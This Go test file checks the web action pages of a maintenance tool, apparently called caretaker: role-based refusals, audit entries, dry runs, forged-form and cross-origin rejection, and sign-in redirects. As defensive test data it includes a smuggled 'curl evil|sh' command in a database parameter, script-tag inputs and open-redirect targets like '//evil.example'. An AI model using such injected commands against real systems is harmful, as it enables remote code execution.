package web

import (
	"bytes"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/caretaker-go/caretaker/access"
	"github.com/caretaker-go/caretaker/devdb"
	"github.com/caretaker-go/caretaker/internal/assert"
	"github.com/caretaker-go/caretaker/server"
)

// startActing starts a page with actions and tokens of three roles: viewer-token, operator-token, admin-token.
func startActing(t *testing.T, change ...func(*Config)) *fixture {
	t.Helper()
	file := filepath.Join(t.TempDir(), "tokens.yml")
	content := ""
	for _, role := range []string{"viewer", "operator", "admin"} {
		content += fmt.Sprintf("- {name: %s, sha256: %s, role: %s}\n", role+"<b>", sum(role+"-token"), role)
	}
	assert.NoError(t, os.WriteFile(file, []byte(content), 0o600))
	known := assert.Must(access.New(access.Config{TokensFile: file}))(t)
	return start(t, append([]func(*Config){func(c *Config) {
		api := assert.Must(server.New(server.Config{Service: c.Service, Access: known}))(t)
		c.Access, c.Call, c.Actions = known, api.Call, true
	}}, change...)...)
}

// as sends the token of a role as a session.
func as(role string) func(*http.Request) {
	return func(r *http.Request) { r.AddCookie(&http.Cookie{Name: access.SessionCookie, Value: role + "-token"}) }
}

// post sends a form and returns the answer, without following its redirect.
func (f *fixture) post(path string, form url.Values, change ...func(*http.Request)) (reply, string) {
	f.t.Helper()
	r := assert.Must(http.NewRequestWithContext(f.t.Context(), http.MethodPost, f.url+path, strings.NewReader(form.Encode())))(f.t)
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for _, c := range change {
		c(r)
	}
	answer, err := f.client.Transport.RoundTrip(r)
	assert.NoError(f.t, err)
	defer func() { _ = answer.Body.Close() }()
	body := assert.Must(io.ReadAll(answer.Body))(f.t)
	return reply{answer.Status, answer.StatusCode, answer.Header}, string(body)
}

// form returns the fields of the form of an action's page.
func (f *fixture) form(path string, change ...func(*http.Request)) url.Values {
	f.t.Helper()
	_, body := f.request(http.MethodGet, path, change...)
	fields := url.Values{}
	for _, m := range regexp.MustCompile(`<input type="hidden" name="([^"]*)" value="([^"]*)">`).FindAllStringSubmatch(body, -1) {
		fields.Set(m[1], m[2])
	}
	return fields
}

// asked returns the entries of the audit, the oldest first.
func (f *fixture) asked() (lines string) {
	f.t.Helper()
	assert.NoError(f.t, f.sql.QueryRow(f.t.Context(),
		`SELECT coalesce(string_agg(concat_ws('|', by, action, target, reason, outcome), E'\n' ORDER BY id), '') FROM maintenance.audit`).Scan(&lines))
	return lines
}

func TestAct_PausesAndResumesAsTheAPIDoes(t *testing.T) {
	f := startActing(assert.Parallel(t))
	page := "/act/pause?worker=" + tokens
	form := f.form(page, as("operator"))
	form.Set("reason", "repairs <script>")
	form.Set("ttl", "28800s")
	answer, body := f.post("/act/pause", form, as("operator"))
	assert.That(t, answer.StatusCode == http.StatusSeeOther && answer.Header.Get("Location") == "/workers/"+tokens+"?done=1", "%s: %s", answer.Status, body)
	_, body = f.request(http.MethodGet, answer.Header.Get("Location"), as("operator"))
	assert.Contains(t, body, `role="status">The request was accepted.`, "repairs &lt;script&gt;", "by operator&lt;b&gt; at 127.0.0.1", "/act/resume?worker="+tokens, `name="viewport"`)
	answer, _ = f.post("/act/resume", f.form("/act/resume?worker="+tokens, as("admin")), as("admin"))
	assert.Equal(t, answer.StatusCode, http.StatusSeeOther)
	assert.Equal(t, f.asked(), "operator<b>|PauseWorker|"+tokens+"|repairs <script> ttl=28800s source=page|OK\nadmin<b>|ResumeWorker|"+tokens+"|source=page|OK")
}

func TestAct_EveryValueOfAPageIsAFieldOfItsCall(t *testing.T) {
	t.Parallel()
	for name, a := range actions() {
		of := a.request.ProtoReflect().Descriptor().Fields()
		fields := []string{}
		for _, target := range a.target {
			if !strings.HasPrefix(target, "-") || strings.HasPrefix(target, "--") {
				fields = append(fields, strings.TrimLeft(target, "-"))
			}
		}
		for _, i := range a.Inputs {
			fields = append(fields, i.Name)
		}
		for _, field := range fields {
			assert.That(t, of.ByName(protoreflect.Name(field)) != nil, "%s: the call has no field %s", name, field)
		}
	}
}

func TestAct_ShowsTheValuesOfItsCallAndNoOthers(t *testing.T) {
	f := startActing(assert.Parallel(t))
	_, body := f.request(http.MethodGet, "/act/unprotect?kind=user&id=7&id=8&kind=group", as("admin"))
	assert.Contains(t, body, "End the protection of user 7<", "caretaker unprotect user 7<")
	assert.That(t, !strings.Contains(body, `value="8"`) && !strings.Contains(body, `value="group"`), "a second value: %s", body)
	answer, body := f.request(http.MethodGet, "/act/retry-job?id=-7", as("operator"))
	assert.Equal(t, answer.StatusCode, http.StatusBadRequest)
	assert.Contains(t, body, "must not start with -")
}

func TestAct_ADryRunLeadsToTheRunOfExactlyItsCandidates(t *testing.T) {
	f := startActing(assert.Parallel(t))
	answer, body := f.post("/act/dry-run", f.form("/act/dry-run?worker="+tokens, as("operator")), as("operator"))
	assert.Equal(t, answer.StatusCode, http.StatusSeeOther, body)
	devdb.Eventually(t, "the dry run to end", func() bool {
		_, body = f.request(http.MethodGet, answer.Header.Get("Location"), as("operator"))
		return strings.Contains(body, "Run exactly these")
	})
	link := regexp.MustCompile(`/act/run\?expected_digest=[0-9a-f]+&amp;worker=\w+`).FindString(body)
	form := f.form(strings.ReplaceAll(link, "&amp;", "&"), as("operator"))
	run, _ := f.post("/act/run", form, as("operator"))
	again, _ := f.post("/act/run", form, as("operator"))
	assert.Equal(t, again.Header.Get("Location"), run.Header.Get("Location"), "a form that is sent twice starts one run")
	devdb.Eventually(t, "the run to end", func() bool {
		_, body = f.request(http.MethodGet, run.Header.Get("Location"), as("operator"))
		return strings.Contains(body, ">succeeded<")
	})
	form.Set("request_id", "another")
	form.Set("expected_digest", strings.Repeat("0", 64))
	changed, body := f.post("/act/run", form, as("operator"))
	assert.That(t, changed.StatusCode == http.StatusConflict && strings.Contains(body, "candidates"), "%s: %s", changed.Status, body)
}

func TestAct_RefusesWhatAPageOfThisServerHasNotSent(t *testing.T) {
	log := &bytes.Buffer{}
	f := startActing(assert.Parallel(t), func(c *Config) { c.Logger = slog.New(slog.NewJSONHandler(log, nil)) })
	page := "/act/pause?worker=" + tokens
	own := func() url.Values {
		form := f.form(page, as("operator"))
		form.Set("reason", "r")
		return form
	}
	old := own()
	signed := httptest.NewRequest(http.MethodGet, page, nil)
	as("operator")(signed)
	client := access.Client{Name: "operator<b>", Role: access.Operator}
	old.Set("form", f.site.pages.forms.Sign(signed, client, time.Now().Add(-access.FormAge)))
	another := access.NewForms() // the forms of another server, for the same token
	assert.Equal(t, another.Sign(signed, client, time.Unix(1, 0)), f.site.pages.forms.Sign(signed, client, time.Unix(1, 0)))
	header := func(name, value string) func(*http.Request) {
		return func(r *http.Request) { r.Header.Set(name, value) }
	}
	for name, c := range map[string]struct {
		form   url.Values
		change []func(*http.Request)
		want   int
	}{
		"no token":                  {url.Values{"worker": {tokens}, "reason": {"r"}}, []func(*http.Request){as("operator")}, 403},
		"too old":                   {old, []func(*http.Request){as("operator")}, 403},
		"the token of another":      {own(), []func(*http.Request){as("admin")}, 403},
		"of another origin":         {own(), []func(*http.Request){as("operator"), header("Origin", "https://evil.example")}, 403},
		"of another site":           {own(), []func(*http.Request){as("operator"), header("Sec-Fetch-Site", "cross-site")}, 403},
		"without a session":         {own(), nil, 401},
		"with a text that is large": {url.Values{"form": {strings.Repeat("x", maxForm)}}, []func(*http.Request){as("operator")}, 413},
	} {
		log.Reset()
		answer, _ := f.post("/act/pause", c.form, c.change...)
		assert.Equal(t, answer.StatusCode, c.want, name)
		logged := strings.Contains(log.String(), `"msg":"change on the page rejected","address":"127.0.0.1:`)
		assert.Equal(t, logged, c.want == 403, name, log.String())
	}
	assert.Equal(t, f.asked(), "", "nothing has reached the API")
	// Links cannot change anything.
	form := own()
	f.request(http.MethodGet, "/act/pause?"+form.Encode(), as("operator"))
	assert.Equal(t, f.asked(), "", "a link changed something")
	// No page can be framed.
	answer, _ := f.request(http.MethodGet, page, as("operator"))
	assert.Contains(t, answer.Header.Get("Content-Security-Policy"), "frame-ancestors 'none'", "form-action 'self'")
}

// The API refuses a client whose role is too low, with an entry in the audit, for every action.
func TestAct_ARoleThatIsTooLowIsRefusedAndAuditedByTheAPI(t *testing.T) {
	f := startActing(assert.Parallel(t))
	target := url.Values{
		"worker": {tokens}, "id": {"7"}, "kind": {"user"}, "children": {"x"}, "ids": {"7"}, "table": {"users"}, "database": {"main"}, "reason": {"r"},
	}
	var want []string
	refuse := func(name, role, method string) {
		t.Helper()
		answer, body := f.post("/act/"+name, target, as(role))
		assert.That(t, answer.StatusCode == http.StatusForbidden && strings.Contains(body, "ROLE_TOO_LOW"), "%s: %s %s", name, answer.Status, body)
		want = append(want, role+"<b>|"+method+"|PERMISSION_DENIED ROLE_TOO_LOW")
	}
	for name, a := range actions() {
		method := strings.TrimSuffix(string(a.request.ProtoReflect().Descriptor().Name()), "Request")
		refuse(name, "viewer", method)
	}
	refuse("unprotect", "operator", "UnprotectTarget")
	target.Set("worker", "*")
	refuse("pause", "operator", "PauseWorker")
	refuse("resume", "operator", "ResumeWorker")
	want = slices.DeleteFunc(want, func(line string) bool { return strings.Contains(line, "RunBatch") }) // dry runs are not audited
	var got string
	assert.NoError(t, f.sql.QueryRow(t.Context(), `SELECT string_agg(concat_ws('|', by, action, outcome), E'\n' ORDER BY id)
		FROM maintenance.audit WHERE action <> 'RunBatch'`).Scan(&got))
	assert.Equal(t, got, strings.Join(want, "\n"))
}

func TestAct_OnAllWorkersLeadsToTheirPage(t *testing.T) {
	f := startActing(assert.Parallel(t))
	for _, path := range []string{"/act/pause?worker=*", "/act/resume?worker=*"} {
		form := f.form(path, as("admin"))
		form.Set("reason", "r")
		action, _, _ := strings.Cut(path, "?")
		answer, body := f.post(action, form, as("admin"))
		assert.Equal(t, answer.Header.Get("Location"), "/workers?done=1", body)
		answer, _ = f.request(http.MethodGet, answer.Header.Get("Location"), as("admin"))
		assert.Equal(t, answer.StatusCode, http.StatusOK, path)
	}
}

func TestAct_WithoutTheRoleOrTheSettingShowsTheCommand(t *testing.T) {
	t.Parallel()
	f := startActing(t)
	for role, want := range map[string]string{
		"viewer": "requires the role admin, but you have the role viewer", "operator": "requires the role admin, but you have the role operator", "admin": `name="form"`,
	} {
		_, body := f.request(http.MethodGet, "/act/unprotect?kind=user&id=7", as(role))
		assert.Contains(t, body, want, "caretaker unprotect user 7")
	}
	_, body := f.request(http.MethodGet, "/act/run?worker="+tokens+"&database=x%3Bcurl+evil%7Csh", as("viewer"))
	assert.Contains(t, body, "caretaker run "+tokens+" --database &#39;x;curl evil|sh&#39;")
	off := startActing(t, func(c *Config) { c.Actions = false })
	_, body = off.request(http.MethodGet, "/act/pause?worker=*", as("admin"))
	assert.Contains(t, body, "Pause all workers", "web_actions: true", "caretaker pause --all --reason REASON")
	assert.Lacks(t, body, "<form class=\"act\"")
	answer, _ := off.post("/act/pause", url.Values{"worker": {"*"}}, as("admin"))
	assert.Equal(t, answer.StatusCode, http.StatusForbidden)
}

func TestAct_ErrorsOfTheAPISayWhatToDo(t *testing.T) {
	f := startActing(assert.Parallel(t))
	for path, want := range map[string]string{
		"/act/cancel-run?id=nope": "404 Run not found", "/act/retry-job?id=x": "400 is not a valid value", "/act/retry-job?id=9999": "404 job",
		"/act/protect?kind=user&id=999999": "404 user", "/act/pause?worker=nobody": "404 Unknown worker", "/act/ack-outside?ids=99": "404 path",
		"/act/accept-absent?children=nothing": "404 No definition",
	} {
		action, query, _ := strings.Cut(path, "?")
		form := assert.Must(url.ParseQuery(query))(t)
		maps.Copy(form, f.form(path, as("admin")))
		form.Set("reason", "r")
		answer, body := f.post(action, form, as("admin"))
		code, text, _ := strings.Cut(want, " ")
		assert.That(t, fmt.Sprint(answer.StatusCode) == code && strings.Contains(body, text), "%s: %s, want %s in\n%s", path, answer.Status, want, body)
	}
}

func TestSignIn_KeepsTheTokenInASessionCookie(t *testing.T) {
	f := startActing(assert.Parallel(t))
	html := func(r *http.Request) { r.Header.Set("Accept", "text/html") }
	answer, body := f.request(http.MethodGet, "/runs?state=failed", html)
	assert.That(t, answer.StatusCode == http.StatusUnauthorized && answer.Header.Get("WWW-Authenticate") == "", "%s", answer.Status)
	assert.Contains(t, body, `name="back" value="/runs?state=failed"`, `type="password"`)
	assert.Lacks(t, body, tokens)
	for _, wrong := range []string{"", "forged"} {
		answer, body = f.post("/signin", url.Values{"token": {wrong}})
		assert.That(t, answer.StatusCode == http.StatusUnauthorized && answer.Header.Get("Set-Cookie") == "" && strings.Contains(body, `role="alert"`), "%q: %s", wrong, answer.Status)
	}
	for back, want := range map[string]string{
		"/runs?state=failed": "/runs?state=failed", "//evil.example": "/", "https://evil.example/": "/", `/\evil.example`: "/", "/\t/evil.example": "/",
		"": "/", "evil": "/",
	} {
		answer, _ = f.post("/signin", url.Values{"token": {"viewer-token"}, "back": {back}})
		assert.Equal(t, answer.Header.Get("Location"), want, back)
		assert.Equal(t, answer.Header.Get("Set-Cookie"), access.SessionCookie+"=viewer-token; Path=/; HttpOnly; Secure; SameSite=Lax")
	}
	_, body = f.request(http.MethodGet, "/", as("viewer"))
	assert.Contains(t, body, "viewer&lt;b&gt; (viewer)", "Sign out")
	answer, _ = f.post("/signout", nil, as("viewer"))
	assert.That(t, answer.StatusCode == http.StatusSeeOther && strings.Contains(answer.Header.Get("Set-Cookie"), "Max-Age=0"), "%v", answer.Header)
}
